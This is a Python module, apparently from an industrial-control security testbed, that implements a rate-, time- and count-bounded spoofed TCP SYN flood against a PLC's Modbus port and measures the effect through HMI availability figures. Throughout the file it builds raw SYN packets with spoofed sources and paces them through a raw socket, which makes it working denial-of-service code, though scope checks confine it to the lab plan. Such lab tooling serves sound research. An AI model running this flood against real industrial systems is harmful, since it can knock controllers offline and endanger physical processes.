"""A rate-, time- and count-bounded TCP SYN flood against a PLC's Modbus port.

Run inside the attacker host::

    python -m attacks.synflood --plan PLAN.json --targets 10.0.0.21 --out flood.json \\
        [--port 502] [--rate-pps 5000] [--duration-s 10] [--max-packets N] \\
        [--spoof-cidr 10.0.0.0/24] [--seed 1]

Each packet is an IPv4 + TCP SYN with a spoofed source address, a random source port and
sequence number. Sources come only from ``--spoof-cidr`` (default: the plan's subnet), which
the scope guard must accept as inside the plan, minus every real host address of the plan
and the network/broadcast addresses: the target's SYN-ACKs go to addresses nobody holds,
so its half-open connections are never reset. Nothing is ever sent from or to an address
outside the plan.

Packets are built by :func:`syn_packet` (plain ``struct``, checked byte for byte against
scapy's ``IP()/TCP()`` in the unit tests: scapy builds about 10k packets/s, too slow to
pace a flood) and sent through one raw IPv4 socket (``IP_HDRINCL``); the kernel resolves the
target's MAC. The flood stops at whichever comes first of ``--duration-s``,
``--max-packets`` (default: rate x duration) and SIGTERM; it changes nothing on the host
(the outcome's ``host_state_diff`` shows it), and its socket is closed on exit.

Effect is measured by the HMI, not by the attacker: :func:`flood_effect` splits the HMI's
request records into before / during / after windows.

What it cannot do: exceed MAX_RATE_PPS, MAX_DURATION_S or MAX_PACKETS, spoof outside the
plan's subnet, or complete handshakes (it never answers a SYN-ACK).
"""

from __future__ import annotations

import argparse
import ipaddress
import logging
import math
import random
import socket
import struct
import time
from collections.abc import Iterable, Sequence
from dataclasses import asdict, dataclass, field
from typing import Any

from attacks.bounds import Bound, check_bounds
from common.checksum import internet_checksum
from common.cli import int_in, positive_float
from common.errors import UserError
from common.hostenv import (
    AttackContext,
    AttackOutcome,
    attack_parser,
    load_plan,
    run_attack,
    single_target,
)
from common.modbus import MODBUS_PORT
from common.netstate import host_state_diff, snapshot_host
from common.plan import AddressPlan
from common.scope import ScopeError, check_target
from plc.metrics import RequestRecord, plc_metrics

log = logging.getLogger(__name__)

DEFAULT_RATE_PPS = 5_000.0
DEFAULT_DURATION_S = 10.0
# Hard ceilings whatever the flags say.
MAX_RATE_PPS = 100_000.0
MAX_DURATION_S = 300.0
MAX_PACKETS = 10_000_000
TTL = 64
WINDOW = 64240
TIMELINE_PERIOD_S = 0.5
IDLE_SLEEP_S = 0.0005
BURST_PACKETS = 256  # packets sent between two checks of the time bound
IPPROTO_TCP = 6
TCP_SYN = 0x02


# --- packets (pure) ---------------------------------------------------------------------
def syn_packet(src: str, dst: str, sport: int, dport: int, seq: int, ip_id: int = 1,
               ttl: int = TTL, window: int = WINDOW) -> bytes:
    """An IPv4 packet carrying a TCP SYN (no options, DF clear), both checksums filled in."""
    src_b, dst_b = socket.inet_aton(src), socket.inet_aton(dst)
    tcp_no_sum = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, 0, 5 << 4,
                             TCP_SYN, window, 0, 0)
    pseudo = src_b + dst_b + struct.pack("!BBH", 0, IPPROTO_TCP, len(tcp_no_sum))
    tcp = tcp_no_sum[:16] + struct.pack("!H", internet_checksum(pseudo + tcp_no_sum)) + \
        tcp_no_sum[18:]
    ip_no_sum = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ip_id & 0xFFFF, 0,
                            ttl, IPPROTO_TCP, 0, src_b, dst_b)
    ip = ip_no_sum[:10] + struct.pack("!H", internet_checksum(ip_no_sum)) + ip_no_sum[12:]
    return ip + tcp


def spoof_pool(plan: AddressPlan, spoof_cidr: str) -> tuple[str, ...]:
    """Source addresses to spoof: ``spoof_cidr`` (inside the plan) minus real hosts.

    Raises ScopeError when the CIDR is outside the plan's subnet or nothing remains.
    """
    net = check_target(plan, spoof_cidr)
    real = {h.ip for h in plan.hosts}
    reserved = {str(plan.network.network_address), str(plan.network.broadcast_address)}
    addresses = [net.network_address] if net.prefixlen == 32 else list(net.hosts())
    pool = tuple(str(a) for a in addresses if str(a) not in real | reserved)
    if not pool:
        raise ScopeError(f"--spoof-cidr {spoof_cidr}: no address left once the plan's hosts "
                         "are excluded")
    return pool


# --- effect (pure) ----------------------------------------------------------------------
# Target-side counters (read in the target's namespace) that show a SYN flood arrived.
SYN_COUNTERS = ("TcpExt.SyncookiesSent", "TcpExt.ListenOverflows", "TcpExt.ListenDrops",
                "TcpExt.TCPReqQFullDoCookies", "TcpExt.TCPReqQFullDrop")


def parse_proc_netstat(text: str) -> dict[str, int]:
    """``/proc/net/netstat`` (or ``/proc/net/snmp``) as ``{"TcpExt.SyncookiesSent": n}``.

    The file alternates a header line and a value line per group; a pair whose lengths
    differ is skipped.
    """
    out: dict[str, int] = {}
    lines = text.splitlines()
    for header, values in zip(lines[::2], lines[1::2], strict=False):
        group, _, names = header.partition(":")
        vgroup, _, numbers = values.partition(":")
        names_l, numbers_l = names.split(), numbers.split()
        if group != vgroup or len(names_l) != len(numbers_l):
            continue
        for name, number in zip(names_l, numbers_l, strict=True):
            try:
                out[f"{group}.{name}"] = int(number)
            except ValueError:
                continue
    return out


def counter_deltas(before: dict[str, int], after: dict[str, int],
                   names: Sequence[str] = SYN_COUNTERS) -> dict[str, int]:
    """``after - before`` of the named counters (missing counters count as 0)."""
    return {n: after.get(n, 0) - before.get(n, 0) for n in names}


@dataclass(frozen=True)
class WindowFigures:
    """The HMI's figures for one PLC over one time window of its records (HMI clock)."""

    window: str
    start_t_s: float
    end_t_s: float
    polls: int
    availability: float
    timeouts: int
    connection_errors: int
    latency_p50_ms: float
    latency_p99_ms: float
    latency_max_ms: float
    longest_outage_s: float


def flood_effect(records: Iterable[RequestRecord], plc: str, flood_start_t_s: float,
                 flood_end_t_s: float, settle_s: float = 0.0) -> list[WindowFigures]:
    """HMI figures for ``plc`` before, during and after a flood (times on the HMI clock).

    settle_s: skip this long after the flood ends before the ``after`` window starts.
    A window without polls has availability NaN.
    """
    mine = sorted((r for r in records if r.plc == plc), key=lambda r: r.t_s)
    end_t_s = max((r.t_s for r in mine), default=flood_end_t_s)
    windows = (("before", -math.inf, flood_start_t_s),
               ("during", flood_start_t_s, flood_end_t_s),
               ("after", flood_end_t_s + settle_s, math.inf))
    out = []
    for name, lo, hi in windows:
        part = [r for r in mine if lo <= r.t_s < hi]
        m = plc_metrics(plc, part)
        start = part[0].t_s if lo == -math.inf and part else lo
        out.append(WindowFigures(
            window=name, start_t_s=round(max(start, 0.0), 4),
            end_t_s=round(min(hi, end_t_s), 4), polls=m.polls,
            availability=m.availability, timeouts=m.timeouts,
            connection_errors=m.connection_errors, latency_p50_ms=m.latency_p50_ms,
            latency_p99_ms=m.latency_p99_ms, latency_max_ms=m.latency_max_ms,
            longest_outage_s=m.longest_outage_s))
    return out


# --- the flood --------------------------------------------------------------------------
@dataclass
class FloodStats:
    """What the flood sent, updated while it runs.

    packets: SYNs handed to the kernel; send_errors: sends the kernel refused (ENOBUFS...).
    rate_pps: packets / duration_s. timeline: ``{"t_s", "packets"}`` every 0.5 s.
    sources_used: distinct spoofed source addresses.
    """

    packets: int = 0
    send_errors: int = 0
    duration_s: float = 0.0
    rate_pps: float = 0.0
    sources_used: int = 0
    stopped_by: str = ""
    timeline: list[dict[str, float]] = field(default_factory=list)


def run_flood(target: str, port: int, pool: Sequence[str], rate_pps: float, duration_s: float,
              max_packets: int, seed: int, stats: FloodStats) -> FloodStats:
    """Send paced spoofed SYNs to ``target:port``; fills ``stats`` as it goes.

    ``target`` and every address of ``pool`` must already have passed the scope guard.
    """
    rng = random.Random(seed)
    used: set[str] = set()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start_s = time.monotonic()
    next_sample_s = 0.0
    try:
        while True:
            elapsed_s = time.monotonic() - start_s
            if elapsed_s >= next_sample_s:
                stats.timeline.append({"t_s": round(elapsed_s, 3), "packets": stats.packets})
                next_sample_s += TIMELINE_PERIOD_S
            if elapsed_s >= duration_s:
                stats.stopped_by = "duration"
                break
            if stats.packets >= max_packets:
                stats.stopped_by = "max_packets"
                break
            due = min(max_packets, int(rate_pps * elapsed_s) + 1)
            if stats.packets >= due:
                time.sleep(IDLE_SLEEP_S)
                continue
            # A bounded burst: behind schedule (a loaded CPU) the backlog would otherwise grow
            # from burst to burst and the last one would run past --duration-s.
            for _ in range(min(due - stats.packets, BURST_PACKETS)):
                src = pool[rng.randrange(len(pool))]
                used.add(src)
                packet = syn_packet(src, target, rng.randrange(1024, 65536), port,
                                    rng.getrandbits(32), ip_id=rng.getrandbits(16))
                try:
                    sock.sendto(packet, (target, 0))
                except OSError:
                    stats.send_errors += 1
                stats.packets += 1
    finally:
        sock.close()
        stats.duration_s = round(time.monotonic() - start_s, 4)
        stats.rate_pps = round(stats.packets / stats.duration_s, 1) if stats.duration_s else 0.0
        stats.sources_used = len(used)
        stats.stopped_by = stats.stopped_by or "interrupted"
        stats.timeline.append({"t_s": stats.duration_s, "packets": stats.packets})
    return stats


# --- CLI --------------------------------------------------------------------------------
@dataclass(kw_only=True)
class FloodOutcome(AttackOutcome):
    """The flood outcome: :class:`AttackOutcome` plus the target, sources and figures.

    flood: :class:`FloodStats` as a dict. spoof_pool_size: how many sources it could use.
    host_state_diff: differences of the host's network state after vs. before (empty).
    """

    target: str = ""
    port: int = MODBUS_PORT
    spoof_cidr: str = ""
    spoof_pool_size: int = 0
    max_packets: int = 0
    flood: dict[str, Any] = field(default_factory=dict)
    host_state_diff: list[str] = field(default_factory=list)


def build_parser() -> argparse.ArgumentParser:
    """The flood command line (see the module docstring)."""
    parser = attack_parser("attacks.synflood",
                           "A bounded, spoofed TCP SYN flood against one PLC port.")
    parser.add_argument("--port", type=int_in(1, 65535), default=MODBUS_PORT)
    parser.add_argument("--rate-pps", type=positive_float, default=DEFAULT_RATE_PPS,
                        help=f"packets per second (at most {MAX_RATE_PPS:g})")
    parser.add_argument("--duration-s", type=positive_float, default=DEFAULT_DURATION_S,
                        help=f"time bound (at most {MAX_DURATION_S:g} s)")
    parser.add_argument("--max-packets", type=int_in(1, MAX_PACKETS), default=None,
                        help=f"count bound (default rate x duration, at most {MAX_PACKETS})")
    parser.add_argument("--spoof-cidr", default=None,
                        help="source addresses to spoof, inside the plan (default its subnet)")
    parser.add_argument("--seed", type=int, default=1)
    return parser


def _validate(args: argparse.Namespace) -> None:
    check_bounds(args, (Bound("--rate-pps", at_most=MAX_RATE_PPS),
                       Bound("--duration-s", at_most=MAX_DURATION_S)))
    if args.max_packets is None:
        args.max_packets = min(MAX_PACKETS, math.ceil(args.rate_pps * args.duration_s))
    single_target(args.plan, args.targets, "address")
    plan = load_plan(args.plan)
    try:
        spoof_pool(plan, args.spoof_cidr or plan.subnet)
    except ScopeError as exc:
        raise UserError(str(exc)) from None


def _new_outcome(args: argparse.Namespace, targets: tuple[str, ...]) -> FloodOutcome:
    return FloodOutcome(attack="synflood", targets=list(targets), target=targets[0],
                        port=args.port,
                        max_packets=args.max_packets)


def _body(ctx: AttackContext) -> None:
    args = ctx.args
    outcome = ctx.outcome
    assert isinstance(outcome, FloodOutcome)
    outcome.spoof_cidr = args.spoof_cidr or ctx.plan.subnet
    pool = spoof_pool(ctx.plan, outcome.spoof_cidr)
    outcome.spoof_pool_size = len(pool)
    # Re-check right before sending: every address on the wire is inside the plan.
    for address in (outcome.target, *pool):
        if ipaddress.IPv4Address(address) not in ctx.plan.network:
            raise ScopeError(f"refusing to use {address}: outside {ctx.plan.subnet}")
    before = snapshot_host()
    stats = FloodStats()
    try:
        run_flood(outcome.target, args.port, pool, args.rate_pps, args.duration_s,
                  args.max_packets, args.seed, stats)
    finally:
        outcome.flood = asdict(stats)
        outcome.host_state_diff = host_state_diff(before)
        log.info("synflood: %d SYN(s) to %s:%d in %.2f s (%.0f pps, %d send errors, %s)",
                 stats.packets, outcome.target, args.port, stats.duration_s, stats.rate_pps,
                 stats.send_errors, stats.stopped_by)


def main(argv: Sequence[str] | None = None) -> int:
    """Run the flood; returns the exit status (0 ok, 1 failed, 2 refused, 128+N signal N)."""
    return run_attack(parser=build_parser(), argv=argv, new_outcome=_new_outcome, body=_body,
                      validate=_validate)


if __name__ == "__main__":
    raise SystemExit(main())
